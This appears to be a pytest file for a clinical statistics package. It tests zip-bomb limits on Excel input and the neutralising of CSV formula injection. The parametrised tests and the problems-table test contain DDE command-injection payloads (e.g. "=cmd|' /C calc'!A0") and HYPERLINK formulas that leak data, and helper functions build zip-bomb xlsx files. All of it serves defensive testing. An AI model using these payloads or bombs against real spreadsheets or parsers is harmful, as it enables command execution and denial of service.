"""Files are safe: Excel input is bounded (zip bombs, cell counts), formulas without saved
results and column names given twice are errors, and every CSV table written for people
neutralises text a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import json
import re
import struct
import time
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from ketastats.config import schema
from ketastats.exceptions import DataValidationError
from ketastats.io import read_cohort, read_table
from ketastats.io.excel import EXCEL_LIMITS
from ketastats.tablecsv import neutralise_formulas, neutralise_text, write_csv
from ketastats.validate import validate_file

SHEET = "xl/worksheets/sheet1.xml"
GOOD = [["patient_id", "session", "day", "madrs"], ["PQ7X2MZ", 1, 0, 30], ["PQ7X2MZ", 2, 3, 20]]
_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def _xlsx(rows) -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Sessions"
    for row in rows:
        ws.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _with_sheet(data: bytes, write_sheet) -> bytes:
    """``data`` (an .xlsx) with its first sheet's XML replaced by what ``write_sheet`` writes."""
    src = zipfile.ZipFile(io.BytesIO(data))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename == SHEET:
                with dst.open(SHEET, "w", force_zip64=True) as fh:
                    write_sheet(fh)
            else:
                dst.writestr(info, src.read(info.filename))
    return buf.getvalue()


def _declare_size(data: bytes, member: str, size: int) -> bytes:
    """``data`` with ``member``'s uncompressed size set to ``size`` in both zip headers."""
    out, name = bytearray(data), member.encode()
    for sig, name_len_at, size_at, name_at in ((b"PK\x03\x04", 26, 22, 30), (b"PK\x01\x02", 28, 24, 46)):
        i = out.find(sig)
        while i >= 0:
            n = struct.unpack_from("<H", out, i + name_len_at)[0]
            if out[i + name_at : i + name_at + n] == name:
                struct.pack_into("<I", out, i + size_at, size)
            i = out.find(sig, i + 4)
    return bytes(out)


def _rows_of_cells(n_rows: int, per_row: int):
    def write(fh):
        fh.write(f"<worksheet {_NS}><sheetData>".encode())
        row = b"<row>" + b"<c><v>0</v></c>" * per_row + b"</row>"
        for _ in range(n_rows):
            fh.write(row)
        fh.write(b"</sheetData></worksheet>")

    return write


def test_the_excel_limits_default_to_the_config_schema():
    props = schema()["properties"]["cohorts"]["additionalProperties"]["properties"]["excel_limits"]["properties"]
    assert {k: v["default"] for k, v in props.items()} == EXCEL_LIMITS


def test_a_zip_bomb_is_refused_from_its_declared_size_before_parsing(tmp_path):
    """4 KB on disk, 4 GB declared: refused at once with the limit and how to raise it."""
    bomb = tmp_path / "bomb.xlsx"
    bomb.write_bytes(_declare_size(_xlsx(GOOD), SHEET, 0xF0000000))
    assert bomb.stat().st_size < 10_000
    t0 = time.process_time()
    with pytest.raises(DataValidationError) as exc:
        read_table(bomb)
    assert time.process_time() - t0 < 1.0
    text = str(exc.value)
    assert str(bomb) in text and "unpacks to 4,027 MB, more than the limit of 100 MB" in text
    assert "excel_limits.unzipped_mb" in text
    assert exc.value.problems["rule"].tolist() == ["excel_limit"]


def test_a_real_deflate_bomb_is_refused_and_the_limit_is_configurable(tmp_path):
    """12 MB of sheet XML deflates to ~25 KB; with a 10 MB limit it is refused, with 20 MB
    its cells are counted (and refused above the cell limit)."""
    bomb = tmp_path / "bomb.xlsx"
    bomb.write_bytes(_with_sheet(_xlsx(GOOD), _rows_of_cells(800, 1000)))  # 800,000 cells
    assert bomb.stat().st_size < 100_000
    cohort = {"input": str(bomb), "excel_limits": {"unzipped_mb": 10}}
    with pytest.raises(DataValidationError, match="more than the limit of 10 MB"):
        read_cohort(cohort)
    cohort["excel_limits"] = {"unzipped_mb": 20, "cells": 100_000}
    t0 = time.process_time()
    with pytest.raises(DataValidationError, match=r"sheet 'Sessions' holds more than 100,000 cells"):
        read_cohort(cohort)
    assert time.process_time() - t0 < 2.0


def test_validate_file_reports_the_limit_as_a_problem_row_not_a_traceback(tmp_path):
    bomb = tmp_path / "bomb.xlsx"
    bomb.write_bytes(_declare_size(_xlsx(GOOD), SHEET, 0xF0000000))
    report = validate_file(bomb, problems_csv=tmp_path / "problems.csv")
    assert not report.ok
    assert report.errors["rule"].tolist() == ["excel_limit"]
    assert "excel_limit" in (tmp_path / "problems.csv").read_text()


def test_formulas_without_saved_results_are_an_error_naming_sheet_and_column(tmp_path):
    path = tmp_path / "formulas.xlsx"
    rows = [["patient_id", "session", "day", "madrs"], ["PQ7X2MZ", 1, 0, "=10+20"], ["PQ7X2MZ", 2, 3, "=SUM(1,2)"]]
    path.write_bytes(_xlsx(rows))
    # read as values, the way pandas reads them, madrs would be silently empty
    assert pd.read_excel(path, dtype=object)["madrs"].isna().all()
    with pytest.raises(DataValidationError) as exc:
        read_table(path)
    text = str(exc.value)
    assert "sheet 'Sessions' has formulas without a saved result" in text
    assert "'madrs' (D): 2 cell(s), first in row 2" in text
    assert exc.value.problems[["rule", "column"]].to_dict("records") == [{"rule": "excel_formula", "column": "madrs"}]


def test_formulas_with_saved_results_are_read_as_their_values(tmp_path):
    def sheet(fh):
        fh.write(
            f'<worksheet {_NS}><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>patient_id</t></is></c>'
            '<c r="B1" t="inlineStr"><is><t>madrs</t></is></c></row><row r="2"><c r="A2" t="inlineStr">'
            '<is><t>PQ7X2MZ</t></is></c><c r="B2"><f>10+20</f><v>30</v></c></row></sheetData></worksheet>'.encode()
        )

    path = tmp_path / "cached.xlsx"
    path.write_bytes(_with_sheet(_xlsx(GOOD), sheet))
    assert read_table(path)["madrs"].tolist() == [30]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_column_named_twice_is_an_error(tmp_path, fmt):
    rows = [["patient_id", "session", "day", "madrs", " madrs"], ["PQ7X2MZ", 1, 0, 30, 31]]
    path = tmp_path / f"dup.{fmt}"
    if fmt == "csv":
        path.write_text("\n".join(",".join(map(str, r)) for r in rows) + "\n")
    else:
        path.write_bytes(_xlsx(rows))
    with pytest.raises(DataValidationError) as exc:
        read_table(path)
    text = str(exc.value)
    assert str(path) in text and "'madrs' more than once" in text
    assert ("columns 4, 5" if fmt == "csv" else "columns D, E") in text
    assert exc.value.problems[["rule", "column"]].to_dict("records") == [{"rule": "duplicate_column", "column": "madrs"}]
    report = validate_file(path)
    assert report.errors["rule"].tolist() == ["duplicate_column"]


def test_a_column_named_twice_counts_quoted_names_as_the_file_does(tmp_path):
    path = tmp_path / "quoted.csv"
    path.write_text('patient_id,"session",day,"madrs, total",madrs\nPQ7X2MZ,1,0,30,30\n')
    assert list(read_table(path).columns) == ["patient_id", "session", "day", "madrs, total", "madrs"]


# ---------------------------------------------------------------- CSV injection
@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ('=HYPERLINK("http://x.test/?"&A1,"click")', "'=HYPERLINK(\"http://x.test/?\"&A1,\"click\")"),
        ("\t=1+1", "'\t=1+1"),
        ("  =1+1", "'  =1+1"),
        ("-3", "-3"),
        ("+3", "+3"),
        ("-1.5e-3", "-1.5e-3"),
        ("ill_within", "ill_within"),
        ("<11", "<11"),
        ("", ""),
    ],
)
def test_text_cells_that_would_run_as_formulas_get_a_quote(cell, safe):
    assert neutralise_text(cell) == safe


def test_numbers_are_never_touched(tmp_path):
    df = pd.DataFrame({"estimate": [-1.25, 2.0], "n": [-3, 4], "term": ["=1+1", "ill"]})
    out = neutralise_formulas(df)
    assert out["estimate"].tolist() == [-1.25, 2.0] and out["n"].tolist() == [-3, 4]
    write_csv(df, tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text() == "estimate,n,term\n-1.25,-3,'=1+1\n2.0,4,ill\n"


def test_the_problems_table_neutralises_quoted_values(tmp_path):
    raw = tmp_path / "s.csv"
    raw.write_text(
        "patient_id,session,day,madrs,=HYPERLINK(\"http://x.test\")\n"
        "PQ7X2MZ,1,0,=cmd|' /C calc'!A0,x\n"
        "PQ7X2MZ,2,-3,@SUM(1+1),x\n"
    )
    report = validate_file(raw, problems_csv=tmp_path / "problems.csv")
    assert not report.ok
    with open(tmp_path / "problems.csv", newline="") as fh:
        rows = list(csv.DictReader(fh))
    values = {r["value"] for r in rows}
    assert {"'=cmd|' /C calc'!A0", "'@SUM(1+1)", "-3"} <= values
    assert "'=HYPERLINK(\"http://x.test\")" in {r["column"] for r in rows}
    for row in rows:
        for cell in row.values():
            assert not cell.lstrip(" \t\r\n").startswith(("=", "+", "@")), cell
            assert not (cell.startswith("-") and cell != "-3"), cell


def test_report_tables_neutralise_text_and_keep_numbers(demo_run, tmp_path):
    """The report's tables/*.csv: a model label that is a formula is quoted; every other
    table (numbers, negative estimates) is written byte for byte as before."""
    from ketastats.report import write_tables

    results = json.loads((demo_run / "reports/demo/results.json").read_text())
    results["models"]["primary"]["label"] = '=HYPERLINK("http://x.test/?"&A1,"see")'
    written = write_tables(results, tmp_path)
    coefs = pd.read_csv(written["coefficients"], dtype=str, keep_default_na=False)
    labels = coefs.loc[coefs["model"] == "primary", "label"]
    assert (labels == "'=HYPERLINK(\"http://x.test/?\"&A1,\"see\")").all() and len(labels) > 0
    assert (coefs["estimate"].str.startswith("-")).any()  # negative estimates, plain numbers
    for name, path in written.items():
        if name != "coefficients":
            assert path.read_bytes() == (demo_run / f"reports/demo/tables/{name}.csv").read_bytes(), name
    unchanged = coefs["model"] != "primary"
    before = pd.read_csv(demo_run / "reports/demo/tables/coefficients.csv", dtype=str, keep_default_na=False)
    assert coefs[unchanged].equals(before[unchanged])


def test_every_csv_writer_goes_through_write_csv():
    """No module writes a CSV for people with DataFrame.to_csv directly (the recovery
    batches under data/processed/, read back by the workflow, are the one exception)."""
    src = Path(__file__).resolve().parents[1] / "src" / "ketastats"
    direct = {
        str(p.relative_to(src))
        for p in src.rglob("*.py")
        # ValidationReport.to_csv (report.to_csv) is itself a write_csv
        if re.search(r"(?<!report)\.to_csv\(", p.read_text()) and p.name != "tablecsv.py"
    }
    assert direct == {"pipeline.py"}
